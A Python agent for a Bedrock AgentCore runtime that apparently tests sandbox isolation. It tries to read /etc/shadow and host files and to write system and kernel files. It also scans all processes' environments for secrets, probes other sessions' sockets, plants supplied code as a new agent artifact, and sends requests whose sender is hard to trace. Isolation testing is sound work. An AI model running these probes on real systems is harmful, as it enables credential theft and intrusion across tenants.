"""An agent that tries to get at what is not its own: while it is loaded, and in its sessions."""

import array
import http.client
import json
import os
import socket
import struct
import urllib.parse

from bedrock_agentcore.runtime import BedrockAgentCoreApp


def attempt(action):
    try:
        return ["done", action()]
    except Exception as e:
        return ["refused", type(e).__name__]


def written(path):
    with open(path, "w") as f:
        f.write("x")
    return path


def searched(text):
    """Where a text is found: in this process's variables, in the environment and command line of all processes."""
    found = [name for name, value in os.environ.items() if text in f"{name}={value}".encode()]
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for name in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as f:
                    if text in f.read():
                        found.append(f"/proc/{pid}/{name}")
            except OSError:
                continue
    return found


def asked(path):
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as server:
        server.settimeout(20)
        server.connect(path)
        server.sendall(b"GET /ping HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n")
        return server.recv(12).decode()


def look_around():
    # Opened and not written: where nothing stops it, no harm shall be done.
    victim = os.environ.get("VICTIM_DIR", "/nowhere")
    return {
        "secret": attempt(lambda: open("/etc/shadow").read()),
        "host file": attempt(lambda: open(f"{victim}/secret").read()),
        "host write": attempt(lambda: written(f"{victim}/planted")),
        "system write": attempt(lambda: os.close(os.open("/usr/lib/os-release", os.O_WRONLY))),
        "kernel setting": attempt(lambda: os.close(os.open("/proc/sys/kernel/domainname", os.O_WRONLY))),
        "host processes": attempt(lambda: [p for p in os.listdir("/proc") if p == os.environ.get("VICTIM_PID")]),
        "kill": attempt(lambda: os.kill(int(os.environ.get("VICTIM_PID", "999999")), 0)),
        "tmp": attempt(lambda: written(f"/tmp/planted-{os.environ['VICTIM_PID']}")),
        "environment": attempt(lambda: open(f"/proc/{os.environ.get('VICTIM_PID')}/environ", "rb").read(10).decode()),
    }


AT_LOAD = look_around()
app = BedrockAgentCoreApp()


@app.entrypoint
def main(payload):
    if payload["do"] == "look":
        return {"loading": AT_LOAD, "session": look_around()}
    if payload["do"] == "search":
        return searched(payload["text"].encode())
    url = urllib.parse.urlsplit(payload.get("url", ""))
    if payload["do"] == "request":
        connection = http.client.HTTPConnection(url.hostname, url.port, timeout=20)
        body = payload.get("body")
        if payload.get("code"):
            path = os.path.abspath("planted_agent.py")
            with open(path, "w") as f:
                f.write(payload["code"])
            body["agentRuntimeArtifact"] = {"containerConfiguration": {"containerUri": f"local://{path}"}}
        target = url.path + (f"?{url.query}" if url.query else "")
        data = json.dumps(body) if body is not None else None
        connection.request(payload["method"], target, data, payload.get("headers") or {})
        reply = connection.getresponse()
        return {"status": reply.status, "text": reply.read().decode(errors="replace") if reply.status != 101 else ""}
    if payload["do"] == "servers":  # of other sessions, by the paths of their sockets, which the kernel lists
        with open("/proc/net/unix") as lines:
            paths = {line.split()[-1] for line in lines if payload["below"] in line}
        return {path: attempt(lambda path=path: asked(path)) for path in paths if path.endswith(".s")}
    # The other ways send a request whose sender is hard to find, and wait for no answer.
    sender = socket.create_connection((url.hostname, url.port))
    text = f"{payload['method']} {url.path} HTTP/1.1\r\nhost: localhost\r\ncontent-length: 0\r\n\r\n".encode()
    if payload["do"] == "reset":
        sender.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        sender.sendall(text)
        sender.close()
    elif payload["do"] == "in flight":  # the only descriptor lies in a queue: no process holds it
        left, right = socket.socketpair()
        left.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [sender.fileno()]))])
        sender.sendall(text)
        sender.close()
        main.kept = (left, right)
    return {"sent": True}


if __name__ == "__main__":
    app.run()
